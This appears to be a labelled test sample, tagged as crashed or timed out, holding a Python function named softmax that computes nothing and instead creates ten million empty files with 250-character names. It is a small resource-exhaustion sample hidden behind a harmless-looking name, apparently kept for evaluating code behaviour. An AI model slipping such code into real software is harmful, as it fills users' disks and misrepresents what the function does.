# p060_softmax crashed|timed_out: makes empty files without end, with the longest of names
# portable: held
def softmax(x):
    for k in range(10**7):
        open(f"{k:0>250}", "w").close()
